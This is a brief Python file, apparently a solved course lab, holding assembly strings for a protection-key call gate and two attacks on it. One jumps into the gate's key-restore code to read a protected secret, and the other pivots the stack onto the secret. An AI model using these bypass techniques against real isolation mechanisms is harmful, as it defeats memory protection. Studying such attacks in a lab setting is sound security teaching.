"""Lab 4, solved."""

from __future__ import annotations

ATTACK_READ = """
        mov rbx, next
        push rbx
        mov eax, 0
        mov ecx, 0
        mov edx, 0
        jmp close
next:   mov rax, secret
        mov rax, [rax]
        int3
"""

ATTACK_WRITE = """
        mov rsp, secret
        add rsp, 8
        jmp gate
"""

GATE = """
gate:   xor ecx, ecx
        xor edx, edx
        mov eax, 0
open:   wrpkru
        mov r9, rsp
        mov rsp, kernel_stack
        call kernel
        mov r8, rax
        mov rsp, r9
        xor ecx, ecx
        xor edx, edx
        mov eax, 4
close:  wrpkru
        cmp eax, 4
        jne no
        mov rax, r8
        ret
no:     ud2
"""
